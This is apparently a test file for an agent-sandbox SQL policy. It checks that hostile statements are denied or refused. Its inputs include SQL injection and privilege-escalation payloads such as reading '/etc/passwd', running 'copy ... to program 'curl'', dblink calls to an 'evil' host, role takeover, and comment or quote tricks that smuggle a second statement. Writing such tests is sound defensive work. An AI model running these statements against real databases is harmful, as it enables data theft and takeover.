"""Getting an SQL statement past the policy: a second statement, code, files, other accounts, other spellings."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

import pytest

from agentsh.core.action import ActionKind, ActionSpec, Origin
from agentsh.core.decision import Verdict
from agentsh.core.errors import AgentshError
from agentsh.policy import parse_policy, preset
from agentsh.policy.sql import read_sql

if TYPE_CHECKING:
    from .conftest import Opener

GENEROUS = parse_policy(
    '[[rule]]\nname = "all"\nverdict = "allow"\nverbs = ["select", "insert", "update", "delete", "merge", "truncate", '
    '"create", "alter", "drop"]\ntables = ["public.*"]\n'
    '[[rule]]\nname = "not-pay"\nverdict = "deny"\ntables = ["pay"]\n',
    name="generous",
)


def _judged(statement: str) -> Verdict:
    return GENEROUS.judge_action(ActionSpec(ActionKind.SQL, {"statement": statement}, Origin.AGENT)).verdict


def test_what_the_generous_policy_is_for():
    assert _judged("select * from orders") is Verdict.ALLOW


@pytest.mark.parametrize(
    "statement",
    [
        "select 1; delete from orders",
        "select 1;; commit",
        "select ';'; drop table orders",
        'select ";"; drop table orders',
        "COMMIT",
        "  (  Commit",
        "begin",
        "start transaction read write",
        "end",
        "abort",
        "rollback and chain",
        "prepare transaction 'x'",
        "set role postgres",
        "SET LOCAL ROLE postgres",
        "set session authorization postgres",
        "reset role",
        "set search_path = evil",
        "discard all",
        "copy orders to program 'curl example.org'",
        "copy (select * from pay) to '/tmp/x'",
        "do $$ begin perform 1; end $$",
        "call wipe()",
        "execute stored",
        "load 'evil'",
        "lock table orders",
        "notify other, 'secret'",
        "create function f() returns int language c as 'x'",
        "create or replace procedure f() language sql as 'delete from pay'",
        "create extension dblink",
        "create trigger t after insert on orders execute function f()",
        "create rule r as on select to orders do instead select 1",
        "create role me superuser password 'x'",
        "create event trigger t on ddl_command_start execute function f()",
        "create subscription s connection 'host=evil' publication p",
        "create foreign table f (a int) server s",
        "alter system set archive_command = 'sh'",
        "alter role postgres password 'x'",
        "alter database d set search_path = evil",
        "drop role postgres",
        "drop database d",
        "create index concurrently i on orders (a)",
        "select pg_read_file('/etc/passwd')",
        "select pg_catalog.pg_read_file('/etc/passwd')",
        "select \"pg_read_file\"('/etc/passwd')",
        "select * from orders where pg_sleep(100) is null",
        "select lo_import('/etc/passwd')",
        "select * from dblink('host=evil', 'select 1') as t(a int)",
        "select public.dblink_exec('host=evil', 'drop table orders')",
        "select set_config('role', 'postgres', false)",
        "select pg_terminate_backend(1)",
        "select query_to_xml('delete from pay', true, false, '')",
        "update orders set a = pg_ls_dir('/')",
    ],
)
def test_what_no_rule_lets_through(statement: str):
    assert _judged(statement) is Verdict.DENY


@pytest.mark.parametrize(
    "statement",
    [
        "select wipe()",
        "select public.wipe(id) from orders",
        "select evil.lower(id) from orders",
        'select "Lower"(id) from orders',
        "select * from wipe()",
        "select * from rows from (wipe())",
        "select * from orders order by wipe(id)",
        "select * from orders join items on conflict(1)",
        "insert into orders values (wipe())",
        "insert into orders (a) values (conflict(1)) on conflict (a) do nothing",
        "create table n (a int default wipe())",
        "select (1) operator(evil.+) (2)",
        "create table n (a int) with (x = 1)",
        "select (array[1, 2])[1:wipe(2)]",
        "select (array[1, 2])[:wipe(2)]",
        "select is(1)",
        "select by(1)",
        "select over(1)",
        "select filter(1)",
        "select key(1)",
        "select wipe (1)",
        "select wipe\n(1)",
        "explain analyze delete from pay",
        "explain (analyze) delete from orders",
        "select * from orders for update",
        "select 1 -- \rdelete from pay",
        "select 1 /* /* */ , (select 1 from pay) -- */",
        "/**/ set role postgres",
        "-- x\nset role postgres",
        r"select E'\'', (select 1 from pay) --'",
        r"select '\', (select a from pay), '",
        "select $$ $$, (select a from pay), $a$ $a$",
        "select a$b$ from pay where '$b$' = ''",
        r'select U&"\0077ipe"(1)',
        r"select u&'\0027'",
        "select a\u00a0from orders",
        "select wipe\u2028(1)",
        "select a from orders where a = $1",
        "table orders union table pay",
        "select * from orders where a in (table pay)",
        "create view v as (table pay)",
        "truncate orders cascade",
        "drop table orders cascade",
        "alter table orders owner to evil",
        "alter table orders disable trigger all",
        "alter table orders disable row level security",
        "grant all on orders to public",
        "security_label",
        "select * from db.public.orders",
        'select * from "a.b"',
        "select * from pg_authid",
        "\x00select 1",
        "select 1\x00",
        "select \u202e1",
    ],
)
def test_what_cannot_be_known_is_never_allowed(statement: str):
    assert _judged(statement) is not Verdict.ALLOW
    assert (
        preset("trusted").judge_action(ActionSpec(ActionKind.SQL, {"statement": statement})).verdict
        is not Verdict.ALLOW
    )


@pytest.mark.parametrize(
    "statement",
    [
        "select * from orders, pay",
        'select * from "pay"',
        "select * from PUBLIC.Pay",
        "select * from hr.pay",
        "select (select max(a) from pay) from orders",
        "select * from orders where exists (select from pay)",
        "select * from (orders join pay on true)",
        "select * from orders cross join lateral (select * from pay) x",
        "select * from orders order by (select a from pay)",
        "select * from orders limit (select a from pay)",
        "select sum(a) over (order by (select a from pay)) from orders",
        "select array(select a from pay)",
        "with pay as (select * from pay) select * from pay",
        "with x as (update pay set a = 1 returning *) select * from x",
        "with x as (select 1), y as (insert into pay select * from x returning *) select * from y",
        "insert into orders select * from pay",
        "insert into orders (a) values (1) on conflict (a) do update set a = (select a from pay)",
        "delete from orders using pay where true",
        "merge into orders using pay on true when matched then delete",
        "create table n as select * from pay",
        "create table n (like pay)",
        "select * into n from pay",
        "values ((select a from pay))",
        "select * from orders union all select * from pay",
        "drop table orders, pay",
        "truncate orders, only pay",
        "explain analyze delete from pay",
        "select wipe()",
    ],
)
def test_a_table_that_is_denied_wherever_it_stands(statement: str):
    assert _judged(statement) is Verdict.DENY


@pytest.mark.parametrize(
    "statement",
    [
        "select " + "(" * 5000 + "1" + ")" * 5000,
        "select " + "(" * 30 + "1" + ")" * 30,
        "select " + "not " * 4000 + "true",
        "select " + "a + " * 4000 + "1",
        "select " + "case when a then " * 900 + "1" + " end" * 900,
        "select '" * 2000,
        "select " + "a." * 5000 + "a",
        "with " + ", ".join(f"a{i} as (select * from a{i - 1})" for i in range(400)) + " select 1",
        "x" * 1_000_000,
        "select " + '"' * 9_999,
    ],
    ids=["parentheses", "fewer", "not", "plus", "case", "quotes", "dots", "with", "long", "names"],
)
def test_hostile_text_is_read_in_short_time(statement: str):
    started = time.monotonic()
    read_sql(statement)
    assert time.monotonic() - started < 5


def test_nothing_of_a_statement_that_cannot_be_parsed_is_printed(
    capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
):
    for statement in ("explain select 'hunter2'", "alter table orders owner to hunter2", "select hunter2 from from"):
        found = read_sql(statement)
        assert found.opaque
        assert "hunter2" not in found.opaque
    assert (capsys.readouterr(), caplog.text) == (("", ""), "")


def test_what_a_refusal_names_is_made_visible():
    found = read_sql('select "pg_\x1b[2J\u202e"(1)')
    assert found.refused or found.opaque
    assert "\x1b" not in found.refused + found.opaque
    assert "\u202e" not in found.refused + found.opaque


def test_no_way_of_acting_runs_a_statement(opener: Opener):
    with pytest.raises(AgentshError, match="not something that runs"):
        opener().act(ActionSpec(ActionKind.SQL, {"connection": "x", "statement": "select 1"}))
